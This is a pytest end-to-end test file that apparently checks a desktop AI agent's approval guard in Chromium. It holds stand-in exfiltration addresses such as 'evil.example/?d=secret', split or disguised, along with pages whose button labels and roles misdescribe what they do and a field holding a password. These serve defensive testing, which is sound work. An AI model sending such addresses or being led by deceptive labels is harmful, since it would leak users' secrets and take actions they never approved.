"""A real Chromium: its address field is judged as it stands, and what a page says of its buttons loosens no rule."""

import os
import shutil
import signal
import subprocess
import time
from contextlib import closing
from pathlib import Path

import pytest
from stubs.endpoint import act
from stubs.http_stub import HttpStub
from stubs.lair import Lair

from agent.desktop.x11.windows import X11Windows
from agent.events.run_events import ApprovalGiven

pytestmark = [pytest.mark.slow, pytest.mark.e2e, pytest.mark.timeout(180)]

ROLES = ("menu", "textbox", "spinbutton", "link", "option", "slider", "heading", "document", "terminal")


def page(buttons):
    """A page whose buttons say in its title that they were pressed: each 80 by 8 hundredths of the screen."""
    shown = "".join(
        f'<button {attributes} style="position:fixed;left:10vw;width:80vw;height:8vh;top:{4 + 10 * number}vh"'
        f" onclick=\"document.title='pressed {number}'\">{text}</button>"
        for number, (attributes, text) in enumerate(buttons)
    )
    return f"<title>A page</title><body>{shown}"


def clicks(count):
    """Clicks on the first `count` buttons of such a page, from above."""
    return [act("click", coordinate=[500, round((8 + 10 * number) * 9.99)]) for number in range(count)]


class Browser(Lair):
    """A desktop with a Chromium of its own, which is ended with the test: it hides by which sandbox it was started."""

    def __init__(self, sandbox, profile):
        super().__init__(sandbox)
        self.profile = profile
        self.process = None

    def browse(self, *arguments):
        """Start it as a person has it who needs accessibility: it tells its elements."""
        flags = ["--no-sandbox", "--no-first-run", "--disable-gpu", "--password-store=basic", "--disable-sync"]
        self.process = subprocess.Popen(
            ["chromium", *flags, "--force-renderer-accessibility", f"--user-data-dir={self.profile}", *arguments],
            env=self.sandbox.environ, start_new_session=True, stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        deadline = time.monotonic() + 40
        while "Chromium" not in title():
            assert time.monotonic() < deadline, "Chromium did not come up"
            time.sleep(0.1)
        time.sleep(2)

    def close(self):
        if self.process is not None:
            os.killpg(self.process.pid, signal.SIGKILL)
            self.process.wait()


@pytest.fixture
def lair(sandbox, tmp_path):
    if shutil.which("chromium") is None:
        pytest.fail("scripts/test --all installs chromium")
    browser = Browser(sandbox, tmp_path / "profile")
    yield browser
    browser.close()


def show(lair, buttons):
    """A page with such buttons, on the whole screen."""
    path = Path(lair.home, "page.html")
    path.write_text(page(buttons), encoding="utf-8")
    lair.browse("--kiosk", f"file://{path}")


def title():
    windows = X11Windows()
    try:
        active = windows.active()
        return f"{active.app} {active.title}" if active is not None else ""
    finally:
        windows.close()


#: Why Enter in a browser's address field is asked about: the site is a strange one, or the field cannot be read.
OF_THE_ADDRESS = ("does not name this site", "what this sends cannot be read")


@pytest.mark.parametrize(
    "pieces",
    [
        ["evil.exa", "mple/?d=secret"],
        ["evilexample/?d=secret", {"keys": "home"}, *[{"keys": "right"}] * 4, "."],
        ["evil.example\\?d=secret"],
        ["u:p@evil.example"],
        ["2130706433:9800/"],
    ],
    ids=["two pieces", "a dot in the middle", "a backslash", "a user", "a number"],
)
def test_an_address_that_was_put_together_is_asked_about_before_enter_sends_it(lair, pieces):
    lair.browse("about:blank")
    steps = [act("key", keys="ctrl+l")]
    for piece in pieces:
        steps.append(act("type", text=piece) if isinstance(piece, str) else act("key", **piece))
    asked, _ = lair.run(
        [*steps, act("key", keys="enter")],
        allowed=lambda question: not any(known in question.reason for known in OF_THE_ADDRESS),
        sentence="look up cats",
    )
    # On a busy machine the browser may not tell its field in time: then that is the reason, and as safe.
    assert any(known in reason for known in OF_THE_ADDRESS for reason in asked), asked
    assert "evil" not in title()


def test_a_search_is_entered_without_a_question(lair):
    lair.browse("about:blank")
    steps = [act("key", keys="ctrl+l"), act("type", text="cats"), act("key", keys="enter")]
    asked, _ = lair.run(steps, allowed=False, sentence="look up cats")
    assert asked == []


def test_no_role_that_a_page_gives_a_button_lets_it_be_clicked_unasked(lair):
    show(lair, [(f'role="{role}"', "Delete account") for role in ROLES])
    asked, _ = lair.run(clicks(len(ROLES)), allowed=False)
    assert len(asked) == len(ROLES), lair.events
    assert "pressed" not in title()


def test_the_name_of_a_button_does_not_hide_what_is_written_on_it(lair):
    show(lair, [('aria-label="Cancel"', "Wire the money to Bob"), ('aria-label="Wire the money"', "Cancel")])
    asked, _ = lair.run(clicks(2), allowed=False)
    assert len(asked) == 2, lair.events
    assert "pressed" not in title()


@pytest.mark.parametrize("kind", ["<dialog open", '<div role="alertdialog"'])
def test_a_yes_is_judged_by_the_question_that_the_page_asks_in_itself(lair, kind):
    style = "position:fixed;left:10vw;width:80vw;height:8vh;top:4vh"
    ok = f"""<button onclick="document.title='pressed'" style="{style}">OK"""
    path = Path(lair.home, "page.html")
    path.write_text(f"<title>A page</title>{kind}><p>Delete 30 contacts? They cannot be restored.</p>{ok}</button>")
    lair.browse("--kiosk", f"file://{path}")
    asked, _ = lair.run([act("click", coordinate=[500, 80])], allowed=False)
    assert "agrees to a question" in "".join(asked), asked
    assert "pressed" not in title()


def test_a_button_of_a_page_is_judged_by_what_stands_in_the_fields_that_it_submits(lair):
    scopes = []
    field = '<input aria-label=Note style="position:fixed;left:1%;top:40%;width:90%" value="my password: hunter2">'
    content = (page([("", "Order")]) + field).encode()
    with closing(HttpStub(lambda request: request.respond(content, "text/html"))) as server:
        lair.browse("--kiosk", server.url)
        asked, _ = lair.run(
            [act("click", coordinate=[500, 80])], allowed=lambda one: bool(scopes.append(one.situation.under.site))
        )
    assert any("looks like a secret" in reason for reason in asked), asked
    assert scopes == ["127.0.0.1"], "what is allowed for good is allowed on this site"


LINKS = {
    "https://a.example/issues/14#comments": "",
    "javascript:document.title='pressed'": "leads to no page",
    "mailto:all@a.example?body=I%20quit": "leads to no page",
    "/notes/12/delete": "does something",
    "/tools/setup.exe": "downloads",
}


def test_a_link_is_judged_by_its_address_whatever_it_is_called(lair):
    shown = "".join(
        f'<a href="{href}" style="position:fixed;left:10vw;width:80vw;height:8vh;top:{4 + 10 * number}vh">Details</a>'
        for number, href in enumerate(LINKS)
    )
    with closing(
        HttpStub(lambda request: request.respond(f"<title>A page</title>{shown}".encode(), "text/html"))
    ) as server:
        lair.browse("--kiosk", server.url)
        asked, _ = lair.run([*clicks(len(LINKS))[1:], clicks(1)[0]], allowed=False)
        reasons = list(LINKS.values())[1:]
        assert len(asked) == len(reasons)
        assert all(reason in told for reason, told in zip(reasons, asked, strict=True)), asked


def test_a_yes_for_the_rest_of_the_run_holds_on_the_site_and_in_that_run(lair):
    """Two buttons that delete: the second is covered by the answer to the first, but in no other run or site."""
    buttons = page([("", "Delete the draft"), ("", "Remove it"), ("", "Send")])

    def respond(request):
        place = "position:fixed;left:10vw;width:80vw;height:8vh;top:34vh"
        link = f'<a href="http://localhost:{request.server.server_address[1]}/" style="{place}">More</a>'
        request.respond((buttons + link).encode(), "text/html")

    def answers(steps):
        lair.run(steps, allowed=True, always=True)
        return [event.by.partition(":")[0] for event in lair.events if isinstance(event, ApprovalGiven)]

    with closing(HttpStub(respond)) as server:
        lair.browse("--kiosk", server.url)
        assert answers(clicks(3)) == ["you", "you, before", "you"], "sending is another reason"
        assert answers(clicks(2)[1:]) == ["you"], "this is another run"
        assert answers([clicks(4)[number] for number in (0, 3, 1)]) == ["you", "you"], "the link leads to another site"
